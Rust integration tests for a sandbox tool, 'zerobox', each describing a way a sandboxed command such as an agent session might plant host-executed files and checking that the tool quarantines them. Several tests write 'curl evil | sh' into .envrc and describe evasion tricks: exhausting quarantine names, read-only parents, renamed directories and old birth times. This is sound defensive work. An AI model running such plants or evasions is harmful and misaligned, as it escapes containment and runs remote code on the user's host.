/// Threat: a protected name created *during* a long run (an agent's
/// session) is read by a host process before the run ends (`direnv` in
/// another terminal runs `.envrc`). Stopped by: zerobox watches the
/// directories on the way and moves the name aside as soon as it appears,
/// while the command is still running.
#[test]
fn protected_name_created_during_the_run_is_moved_aside_at_once() {
    let s = scratch();
    let d = real(s.path());
    let mut child = crate::common::zerobox()
        .current_dir(&d)
        .args(["--profile", "protect-shell", "--allow-write=."])
        .args([
            "--",
            "sh",
            "-c",
            "mkdir -p .git && echo 'curl evil|sh' > .envrc && mkdir .git/hooks && sleep 5",
        ])
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let moved = |name: &str| {
        let prefix = format!("{name}.zerobox-quarantine-");
        move |dir: &Path| {
            std::fs::read_dir(dir)
                .map(|r| {
                    r.flatten()
                        .any(|e| e.file_name().to_string_lossy().starts_with(&prefix))
                })
                .unwrap_or(false)
        }
    };
    let envrc_moved = crate::util::wait_until(std::time::Duration::from_secs(4), || {
        moved(".envrc")(&d) && moved("hooks")(&d.join(".git"))
    });
    let still_running = child.try_wait().unwrap().is_none();
    let _ = child.kill();
    let _ = child.wait();
    assert!(envrc_moved, "not moved aside during the run");
    assert!(
        still_running,
        "the run ended before the check: the test proves nothing"
    );
    assert!(!d.join(".envrc").exists() && !d.join(".git/hooks").exists());
}

/// Threat: a rule path zerobox cannot inspect (longer than PATH_MAX, made
/// by a run with relative `mkdirat`s) looked missing, so its protection
/// was silently nothing. Stopped by: any error other than "does not
/// exist" (or no permission) while resolving a rule path refuses the run
/// (exit 2, naming the path).
#[test]
fn rule_path_that_cannot_be_inspected_is_refused() {
    let s = scratch();
    let d = real(s.path());
    let make = format!(
        r#"
import os
fd = os.open("{d}", os.O_RDONLY)
for i in range(45):
    os.mkdir("d" * 100, dir_fd=fd)
    nfd = os.open("d" * 100, os.O_RDONLY, dir_fd=fd)
    os.close(fd)
    fd = nfd
print("made")
"#,
        d = d.display()
    );
    let out = std::process::Command::new(crate::util::python())
        .args(["-c", &make])
        .output()
        .unwrap();
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("made"),
        "{out:?}"
    );
    let long = format!("{}/{}", d.display(), vec!["d".repeat(100); 45].join("/"));
    assert!(long.len() > 4096);
    let flag = format!("--deny-write={long}/hooks");
    let r = crate::util::sh(&d, None, &["--allow-write=.", &flag], "echo ran");
    assert_eq!(r.code, 2, "{r:?}");
    assert!(!r.stdout.contains("ran"), "{r:?}");
    assert!(r.stderr.contains("cannot inspect"), "{r:?}");
}

/// Threat: take every name the guard would move a planted `.envrc` to
/// (`.envrc.zerobox-quarantine-T` and `-1`…`-99` for the next seconds),
/// or just re-create `.envrc` more than 100 times in one second, so the
/// move fails ("no free quarantine name") and the planted file stays live
/// on the host with only a warning. Stopped by: a quarantine name the
/// command cannot guess or exhaust.
#[test]
fn quarantine_names_cannot_be_used_up() {
    let s = scratch();
    let d = real(s.path());
    let r = crate::util::sh(
        &d,
        None,
        &["--profile", "protect-shell", "--allow-write=."],
        r#"now=$(date +%s)
for t in $(seq $now $((now + 20))); do
  : > .envrc.zerobox-quarantine-$t
  for n in $(seq 1 99); do : > .envrc.zerobox-quarantine-$t-$n; done
done
for i in $(seq 150); do echo 'curl evil | sh' > .envrc; done
echo 'curl evil | sh' > .envrc"#,
    );
    assert_eq!(r.code, 0, "{r:?}");
    assert!(
        !d.join(".envrc").exists(),
        "planted .envrc left live on the host: {}",
        r.stderr
    );
}

/// Threat: the guard moves a planted file aside with a rename in its
/// directory, which needs write permission there. The command makes that
/// directory read-only (`chmod 555`) after planting: a host reader still
/// reads the file, but the guard (not root) cannot move it and only
/// warns. Made deterministic by planting in a staging directory, making it
/// read-only and renaming it to `.vscode`. Stopped by: the guard gives the
/// owner write access back to the directory it must move the entry out of.
/// (As root the host side ignores the mode and this holds anyway.)
#[test]
fn read_only_parent_does_not_keep_a_planted_file() {
    let s = scratch();
    let d = real(s.path());
    let r = crate::util::sh(
        &d,
        None,
        &["--profile", "protect-shell", "--allow-write=."],
        r#"mkdir stage && echo '{"task.autoDetect":"on"}' > stage/settings.json && chmod 555 stage && mv stage .vscode
for i in $(seq 50); do chmod u+w . ; echo 'curl evil | sh' > .envrc; chmod 555 .; done"#,
    );
    let _ = std::fs::set_permissions(&d, std::os::unix::fs::PermissionsExt::from_mode(0o755));
    assert_eq!(r.code, 0, "{r:?}");
    let live = d.join(".vscode/settings.json").exists() || d.join(".envrc").exists();
    let _ = std::process::Command::new("chmod")
        .args(["-R", "u+w"])
        .arg(&d)
        .status();
    assert!(!live, "planted file left live on the host: {}", r.stderr);
}

/// Threat: a killed run's journal is handled by the next run only for
/// entries born after the killed run started. The command moves an old
/// file into place (`mv payload .envrc`, a file left by an earlier run) or
/// an old directory holding one (`mv olddir .vscode`); rename keeps the
/// birth time, so the next run took them for the user's and left them
/// live. Stopped by: an entry counts as old only if neither it nor a
/// directory on the way was born or changed (ctime: rename and link set
/// it) since the killed run started.
#[test]
fn killed_run_cannot_hide_a_plant_behind_an_old_birth_time() {
    let home = Home::new();
    let h = home.path();
    let s = scratch();
    let d = real(s.path());
    // Left by an earlier run, before the killed one started.
    std::fs::write(d.join("payload"), "curl evil | sh\n").unwrap();
    std::fs::create_dir(d.join("olddir")).unwrap();
    std::fs::write(d.join("olddir/settings.json"), "{}\n").unwrap();
    std::thread::sleep(std::time::Duration::from_millis(1100));
    let since = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs();
    let hex = |p: &Path| -> String {
        p.to_str()
            .unwrap()
            .bytes()
            .map(|b| format!("{b:02x}"))
            .collect()
    };
    let (envrc, vscode) = (d.join(".envrc"), d.join(".vscode/settings.json"));
    let journals = h.join(".local/share/zerobox/guards");
    std::fs::create_dir_all(&journals).unwrap();
    std::fs::write(
        journals.join("0.json"),
        format!(
            r#"{{"pid":0,"start":0,"since":{since},"paths":["{}","{}"]}}"#,
            hex(&envrc),
            hex(&vscode)
        ),
    )
    .unwrap();
    // What the killed run did before it died.
    std::fs::rename(d.join("payload"), &envrc).unwrap();
    std::fs::rename(d.join("olddir"), d.join(".vscode")).unwrap();
    let r = crate::util::sh(&d, Some(&h), &[], "true");
    assert_eq!(r.code, 0, "{r:?}");
    assert!(!envrc.exists(), "renamed plant left live: {r:?}");
    assert!(!vscode.exists(), "plant in a renamed dir left live: {r:?}");
}

/// Threat: the watcher watches the directories from each guarded path's
/// nearest existing ancestor down, by path. The command moves that
/// ancestor away and makes a new one (`mv .vscode .old; mkdir .vscode`):
/// the new directory had no watch, so a `.vscode/settings.json` planted in
/// it stayed live for the whole run (an agent session: hours), not
/// milliseconds. Stopped by: every directory on the way, from `/`, is
/// watched, and a directory that replaces one gets its own watch.
#[test]
fn replacing_a_watched_directory_does_not_blind_the_guard() {
    let s = scratch();
    let d = real(s.path());
    std::fs::create_dir(d.join(".vscode")).unwrap();
    let mut child = crate::common::zerobox()
        .current_dir(&d)
        .args(["--profile", "protect-shell", "--allow-write=."])
        .args([
            "--",
            "sh",
            "-c",
            "mv .vscode .old && mkdir .vscode && echo '{}' > .vscode/settings.json && echo planted && sleep 4",
        ])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let mut out = std::io::BufReader::new(child.stdout.take().unwrap());
    let mut line = String::new();
    std::io::BufRead::read_line(&mut out, &mut line).unwrap();
    assert_eq!(line, "planted\n");
    let moved = crate::util::wait_until(std::time::Duration::from_secs(3), || {
        !d.join(".vscode/settings.json").exists()
    });
    let _ = child.wait();
    assert!(
        moved,
        "the planted settings.json stayed live during the run"
    );
}

/// Threat: in a fresh home (no `~/.local/share/zerobox` yet) with the home
/// writable, zerobox's own data dir is a missing protected path, so it got
/// no mask; zerobox then made it for the run's crash journal, and (a) its
/// own guard moved it aside at once, journal included (a `kill -9` then
/// leaves nothing to recover), while (b) the command could read and write
/// it (plant a journal that makes the next run rename any file). Stopped
/// by: the journal directory is made before the run is planned, so it is
/// masked like the rest of zerobox's state.
#[test]
fn zerobox_data_dir_made_for_the_journal_is_not_the_commands() {
    let home = Home::new();
    let h = home.path();
    let proj = h.join("proj");
    std::fs::create_dir(&proj).unwrap();
    let wa = format!("--allow-write={}", h.display());
    let r = crate::util::sh(
        &proj,
        Some(&h),
        &[&wa, "--profile", "protect-shell"],
        "ls ~/.local/share/zerobox/guards >/dev/null 2>&1 && echo READ; \
         mkdir -p ~/.local/share/zerobox/guards 2>/dev/null && echo '{}' > ~/.local/share/zerobox/guards/1.json 2>/dev/null && echo WROTE; true",
    );
    assert_eq!(r.code, 0, "{r:?}");
    assert!(!r.stdout.contains("WROTE"), "{r:?}");
    assert!(!r.stdout.contains("READ"), "{r:?}");
    assert!(
        !r.stderr.contains("share/zerobox was created"),
        "zerobox quarantined its own data dir: {r:?}"
    );
    let share = h.join(".local/share");
    let moved: Vec<_> = std::fs::read_dir(&share)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n != "zerobox")
        .collect();
    assert!(moved.is_empty(), "{moved:?}");
}
